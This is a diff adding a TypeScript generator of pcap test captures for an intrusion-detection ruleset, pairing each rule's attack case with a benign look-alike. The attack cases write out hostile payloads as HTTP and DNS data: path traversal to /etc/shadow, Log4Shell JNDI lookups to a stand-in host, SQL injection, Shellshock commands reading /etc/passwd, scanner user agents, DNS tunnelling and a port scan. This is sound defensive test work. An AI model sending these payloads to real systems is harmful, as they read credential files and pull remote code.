@@ -1,0 +1,100 @@
+/**
+ * Generates the captures of the default ruleset's replay cases (test/replay/default-*):
+ * for every rule one capture where it must fire and one benign look-alike where it must stay
+ * silent. Deterministic (fixed clock, fixed ISNs), documentation addresses only.
+ *
+ *   npx tsc -p . && node dist/pcaps/make-cases.js [OUTDIR]      (default pcaps/cases)
+ *
+ * test/replay/cases.test.ts regenerates them into a temp dir and checks the bytes are identical.
+ */
+import * as fs from 'fs';
+import * as path from 'path';
+import { Trace, TcpSession, udpExchange, tcpFrame } from '../src/io/craft';
+import { dnsMessage, dnsQuery } from '../src/io/craft-dns';
+
+/** 2024-03-04T05:06:07Z */
+const START = Date.UTC(2024, 2, 4, 5, 6, 7) / 1000;
+const CLIENT = '192.0.2.10', ATTACKER = '203.0.113.66', WEB = '198.51.100.80', DNS = '198.51.100.53';
+const FIREFOX = 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0';
+
+function get(target: string, headers: Record<string, string> = {}, host = 'www.example.com'): string {
+  const h = { 'User-Agent': FIREFOX, Accept: '*/*', ...headers };
+  return `GET ${target} HTTP/1.1\r\nHost: ${host}\r\n` + Object.entries(h).map(([k, v]) => `${k}: ${v}\r\n`).join('') + '\r\n';
+}
+const BODY = '<html><body>ok</body></html>\n';
+const OK = `HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: ${BODY.length}\r\n\r\n${BODY}`;
+
+/** One HTTP transaction per request, each on its own connection, with a 200 response. */
+function http(requests: string[], client = ATTACKER): Trace {
+  const t = new Trace({ start: START });
+  let cport = 40000;
+  for (const r of requests) {
+    new TcpSession(t, { client, server: WEB, cport: cport++, sport: 80 })
+      .handshake().send('client', r).send('server', OK).close('fin');
+    t.advance(10_000_000);
+  }
+  return t;
+}
+
+function dns(names: string[], client = CLIENT): Trace {
+  const t = new Trace({ start: START });
+  let id = 0x2000, cport = 53000;
+  for (const n of names) {
+    udpExchange(t, {
+      client, server: DNS, cport: cport++, sport: 53, messages: [
+        { from: 'client', data: dnsQuery(id, n, 'A') },
+        { from: 'server', data: dnsMessage({ id, response: true, question: { name: n, type: 'A' }, answers: [{ name: n, type: 'A', addr: '198.51.100.7' }] }) },
+      ],
+    });
+    id++;
+  }
+  return t;
+}
+
+/** `n` SYNs from one source to n distinct ports of one host, `gapNs` apart; RST answers. */
+function synScan(n: number, gapNs: number): Trace {
+  const t = new Trace({ start: START, stepNs: gapNs });
+  for (let i = 0; i < n; i++) {
+    const port = 1 + ((i * 37) % 10000);
+    t.add(tcpFrame(ATTACKER, WEB, '', { sport: 61000, dport: port, seq: 0x5000 + i, ack: 0, flags: 'S', win: 1024, mss: 1460 }));
+  }
+  return t;
+}
+
+const label60 = 'q3b7k2m9x4v8n1c6z5l0p7r2t9w4y8h3j6d1f5g0s2a7e4u9i3o8'.slice(0, 52) + 'abcdefgh';
+
+export const CASES: Record<string, () => Trace> = {
+  'traversal': () => http([get('/../../etc/passwd'), get('/download?file=..%2f..%2fetc%2fshadow')]),
+  'traversal-benign': () => http([get('/docs/guide/index.html'), get('/static/app.min.js?v=1.2.3')], CLIENT),
+  'log4shell': () => http([get('/', { 'User-Agent': '${jndi:ldap://x.example/a}' }), get('/login', { 'X-Api-Version': '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/b}' })]),
+  'log4shell-benign': () => http([get('/template?name=${user}', { 'User-Agent': 'curl/8.5.0' })], CLIENT),
+  'sqli': () => http([get("/products.php?id=1'%20OR%20'1'='1"), get('/item?id=5%20UNION%20SELECT%20username,password%20FROM%20users'), get('/q?id=1%20AND%20sleep(5)')]),
+  'sqli-benign': () => http([get("/search?q=o'reilly+books"), get('/union/select-a-plan')], CLIENT),
+  'shellshock': () => http([get('/cgi-bin/status', { Referer: '() { :; }; /bin/bash -c "cat /etc/passwd"' }), get('/cgi-bin/test.cgi', { 'User-Agent': '() { ignored; }; echo; /usr/bin/id' })]),
+  'shellshock-benign': () => http([get('/app.js', { Referer: 'https://www.example.com/' }), get('/page?f=function()%7Breturn%201%7D')], CLIENT),
+  'scanner-ua': () => http([get('/index.php?id=1', { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' }), get('/admin/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)' })]),
+  'scanner-ua-benign': () => http([get('/'), get('/robots.txt', { 'User-Agent': 'Googlebot/2.1 (+http://www.google.com/bot.html)' })], CLIENT),
+  'dns-tunnel': () => dns([
+    `${label60}.t.example.com`,
+    `${'a1b2c3d4e5'.repeat(5)}.${'f6g7h8i9j0'.repeat(5)}.${'k1l2m3n4o5'.repeat(3)}.tunnel.example.com`,
+  ]),
+  'dns-tunnel-benign': () => dns(['www.example.com', 'mail.example.org', 'a-rather-long-but-normal-hostname.cdn.example.net']),
+  'portscan': () => synScan(150, 20_000_000),
+  'portscan-benign': () => synScan(40, 20_000_000),
+};
+
+export function writeCases(outDir: string): string[] {
+  fs.mkdirSync(outDir, { recursive: true });
+  const written: string[] = [];
+  for (const [name, make] of Object.entries(CASES)) {
+    const file = path.join(outDir, `${name}.pcap`);
+    fs.writeFileSync(file, make().toPcap());
+    written.push(file);
+  }
+  return written;
+}
+
+if (require.main === module) {
+  const out = process.argv[2] ?? path.resolve(__dirname, '..', '..', 'pcaps', 'cases');
+  for (const f of writeCases(out)) process.stderr.write(`wrote ${f}\n`);
+}
